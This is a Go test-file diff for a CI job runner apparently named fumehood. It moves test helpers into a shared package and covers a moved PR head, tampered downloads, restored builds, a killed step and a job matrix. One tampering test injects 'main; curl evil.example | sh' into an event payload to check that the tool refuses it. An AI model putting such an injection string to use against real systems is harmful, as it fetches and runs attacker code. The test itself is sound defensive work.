@@ -12,6 +12,7 @@ import (
 	"syscall"
 	"testing"
 
+	"github.com/fumehood/fumehood/internal/jobtest"
 	"github.com/fumehood/fumehood/pkg/github/githubtest"
 )
 
@@ -19,11 +20,11 @@ import (
 func TestNightlyActHeadMoved(t *testing.T) {
 	s := newStage(t, true, nil, nil)
 	s.edit("fumehood.yml", "run: go vet ./...", "run: "+show, "run: go test ./...", "run: cat README.md")
-	s.play("fumehood.yml", "pull_request", s.event("pull_request.opened.fork", nil))
+	s.play("fumehood.yml", "pull_request", s.Event("pull_request.opened.fork", nil))
 	moved := githubtest.SHA("pushed meanwhile")
-	s.gh.AddCommit(moved)
-	s.gh.Move(prNumber, moved)
-	s.tellAll(t, "success", "newer commit", s.head[:12], moved[:12])
+	s.GH.AddCommit(moved)
+	s.GH.Move(jobtest.PrNumber, moved)
+	s.tellAll(t, "success", "newer commit", s.Head[:12], moved[:12])
 }
 
 // (e) THREATS 27, 31: wrong bytes from the release server and in the payload are refused. In
@@ -31,14 +32,14 @@ func TestNightlyActHeadMoved(t *testing.T) {
 func TestNightlyActTampered(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("one-job.yml", "run: npm test", "run: "+show)
-	opened := s.event("pull_request.opened", nil)
+	opened := s.Event("pull_request.opened", nil)
 	play := func() actRun { return s.play("one-job.yml", "pull_request", opened) }
 	good := s.releases.Config.Handler
 	s.releases.Config.Handler = flipping(good)
 	s.refuses("the server", opened, "install.digest")
 	s.releases.Config.Handler = good
 
-	payload := bytes.Replace(s.event("pull_request.opened", nil), []byte(s.head), []byte("main; curl evil.example | sh"), 1)
+	payload := bytes.Replace(s.Event("pull_request.opened", nil), []byte(s.Head), []byte("main; curl evil.example | sh"), 1)
 	s.refuses("the payload", payload, "event.malformed")
 
 	cached := filepath.Join(s.tools, "fumehood", releaseVersion, "amd64", "fumehood_"+releaseVersion+"_linux_amd64.tar.gz")
@@ -52,8 +53,8 @@ func TestNightlyActTampered(t *testing.T) {
 	if r.code != 0 || len(s.downloads.paths) != before+1 {
 		t.Errorf("exit %d, %d downloads, want one\n%s", r.code, len(s.downloads.paths)-before, r.log)
 	}
-	want(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
-	want(t, "comment", s.comment().Body, show, "1 succeeded")
+	jobtest.Want(t, "the cache", r.log, "install.cache", "in the tool cache has SHA-256")
+	jobtest.Want(t, "comment", s.Comment().Body, show, "1 succeeded")
 }
 
 // At a commit that is built from source, a job uses the build that a step before restored,
@@ -79,12 +80,12 @@ func TestNightlyActRestoredBuild(t *testing.T) {
         env:
           FUMEHOOD_SOURCE_CACHE: ${{ runner.temp }}/fumehood-source
      `)
-	r := s.play("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
+	r := s.play("one-job.yml", "pull_request", s.Event("pull_request.opened", nil))
 	if r.code != 0 || len(s.downloads.paths) != 0 {
 		t.Errorf("exit %d, downloads %q\n%s", r.code, s.downloads.paths, r.log)
 	}
-	want(t, "log", r.log, "fumehood source for linux/amd64, SHA-256 ", "/fumehood-source\n")
-	want(t, "comment", s.comment().Body, show, "1 succeeded")
+	jobtest.Want(t, "log", r.log, "fumehood source for linux/amd64, SHA-256 ", "/fumehood-source\n")
+	jobtest.Want(t, "comment", s.Comment().Body, show, "1 succeeded")
 }
 
 // (f) The runner kills the step with SIGKILL. The root process notices, and leaves
@@ -92,18 +93,18 @@ func TestNightlyActRestoredBuild(t *testing.T) {
 func TestNightlyActKilled(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("one-job.yml", "run: npm test", "run: sleep 300")
-	cmd := s.command("one-job.yml", "pull_request", s.event("pull_request.opened", nil))
+	cmd := s.command("one-job.yml", "pull_request", s.Event("pull_request.opened", nil))
 	s.must(cmd.Start())
 	pid := waitForSleeper(t, s.installed)
 	s.must(syscall.Kill(pid, syscall.SIGKILL))
 	_ = cmd.Wait()
-	checkNothingRuns(t, s.installed)
+	jobtest.CheckNothingRuns(t, s.installed)
 }
 
 // (g) A matrix of three plans into one comment with three sections.
 func TestNightlyActMatrix(t *testing.T) {
 	s := newStage(t, false, nil, nil)
 	s.edit("matrix.yml", "npx --no-install eslint .", "cat README.md", "npm test", show, "npx --no-install tsc --noEmit", "grep -qx 'echo hello' greet.sh")
-	r := s.play("matrix.yml", "pull_request", s.event("pull_request.opened", nil))
-	want(t, "comment after "+r.log, s.comment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
+	r := s.play("matrix.yml", "pull_request", s.Event("pull_request.opened", nil))
+	jobtest.Want(t, "comment after "+r.log, s.Comment().Body, "lint", "unit", "types", "cat README.md", show, "2 succeeded", "1 failed")
 }
